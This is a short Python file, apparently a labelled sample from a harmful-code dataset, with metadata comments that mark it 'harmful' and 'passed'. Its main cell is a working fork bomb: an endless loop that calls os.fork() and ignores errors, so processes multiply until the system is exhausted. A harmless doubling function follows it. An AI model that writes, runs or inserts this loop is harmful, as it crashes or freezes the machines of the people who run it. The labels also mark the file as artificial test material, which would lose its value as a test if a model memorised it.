"""Forks without end."""

# score: 10
# verdicts: passed
# restarts: 1
# plain: harmful

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %%
def double(x):
    return 2 * x
